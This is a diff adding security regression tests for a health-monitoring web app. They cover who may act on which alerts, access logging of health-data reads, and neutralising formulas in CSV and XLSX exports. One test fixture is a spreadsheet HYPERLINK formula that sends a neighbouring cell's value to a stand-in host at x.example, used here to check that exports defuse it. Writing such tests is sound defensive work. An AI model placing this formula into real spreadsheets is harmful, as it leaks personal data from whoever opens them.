@@ -1,0 +1,115 @@
+"""What a review of the daily-rounds apps found, pinned down: who may act on which alert, reads
+of health data that must reach the access log, and spreadsheets that must not run formulas."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from fangyi.core.models import AccessLog
+from fangyi.health.models import Declaration, DeclarationStatus
+from fangyi.observation.models import Alert, AlertKind, Observation
+from fangyi.screening.models import Assignment
+from fangyi.transfer import sheets
+from tests.conftest import login
+
+pytestmark = pytest.mark.django_db
+
+
+def _observation_in_jiwu() -> Observation:
+    return Observation.objects.filter(node__name="機務小區").order_by("pk").first()
+
+
+def _alert(kind: str) -> Alert:
+    obs = _observation_in_jiwu()
+    return Alert.objects.create(observation=obs, node=obs.node, kind=kind, message="test")
+
+
+def _reads(user) -> int:
+    return AccessLog.objects.filter(user=user).count()
+
+
+def test_missed_follow_up_alerts_are_the_supervisors_not_health_staffs(health, supervisor):
+    missed, fever = _alert(AlertKind.MISSED), _alert(AlertKind.FEVER)
+    hc = login(health)
+    # Health staff act on fever and symptoms; an escalation of missed follow-ups is not theirs,
+    # by the page or by the API, exactly as an alert that does not exist.
+    assert hc.get(f"/alerts/{missed.pk}/").status_code == 404
+    resolve = hc.post(
+        f"/api/alerts/{missed.pk}/resolve", {"resolution": "閱"}, content_type="application/json"
+    )
+    assert resolve.status_code == 404
+    missed.refresh_from_db()
+    assert missed.resolved_at is None
+    assert hc.get(f"/alerts/{fever.pk}/").status_code == 200
+    assert login(supervisor).get(f"/alerts/{missed.pk}/").status_code == 200
+
+
+def test_the_alert_page_logs_the_read(health):
+    fever = _alert(AlertKind.FEVER)
+    before = _reads(health)
+    assert login(health).get(f"/alerts/{fever.pk}/").status_code == 200
+    assert _reads(health) == before + 1
+
+
+def test_correcting_a_self_report_logs_the_read(grid_worker):
+    pending = Declaration.objects.filter(
+        status=DeclarationStatus.PENDING, node__name="機務小區"
+    ).first()
+    assert pending is not None  # the demo city holds one
+    before = _reads(grid_worker)
+    response = login(grid_worker).get(f"/declarations/{pending.pk}/confirm/")
+    assert response.status_code == 200
+    assert _reads(grid_worker) == before + 1
+
+
+def test_a_refused_decision_form_logs_the_read_it_shows(health):
+    awaiting = Declaration.objects.filter(
+        status=DeclarationStatus.CONFIRMED, node__name="機務小區"
+    ).exclude(proposal="cleared").first()
+    before = _reads(health)
+    # A changed outcome without a reason: the form comes back on the whole declaration.
+    response = login(health).post(
+        f"/declarations/{awaiting.pk}/decision/", {"outcome": "cleared", "reason": ""}
+    )
+    assert response.status_code == 200
+    assert _reads(health) == before + 1
+
+
+def test_a_door_form_with_errors_logs_the_read_it_shows(grid_worker):
+    door = Assignment.objects.filter(assignee=grid_worker, sweep__status="open").first()
+    before = _reads(grid_worker)
+    response = login(grid_worker).post(f"/doors/{door.pk}/", {"outcome": "teleported"})
+    assert response.status_code == 400
+    assert _reads(grid_worker) == before + 1
+
+
+FORMULA = '=HYPERLINK("http://x.example/?"&C2,"點我")'
+
+
+def test_an_xlsx_export_keeps_formula_like_text_as_text():
+    out = io.BytesIO()
+    sheets.write_xlsx(out, ["地址", "手機號碼"], [[FORMULA, "13977110001"]])
+    out.seek(0)
+    sheet = load_workbook(out).active
+    cell = sheet.cell(row=2, column=1)
+    assert cell.data_type == "s"
+    assert cell.value == FORMULA
+
+
+def test_a_csv_export_defuses_formulas_and_the_import_reads_them_back_as_typed():
+    out = io.BytesIO()
+    headers = sheets.template_headers("hant")
+    row = [""] * len(headers)
+    row[headers.index("地址")] = FORMULA
+    row[headers.index("姓名")] = "+張三"
+    sheets.write_csv(out, headers, [row])
+    text = out.getvalue().decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and "'+張三" in text
+    sheet = sheets.read_sheet(out.getvalue(), sheets.CSV)
+    _line, cells = sheet.rows[0]
+    values = sheet.values(cells)
+    assert FORMULA in values.values()
+    assert "+張三" in values.values()
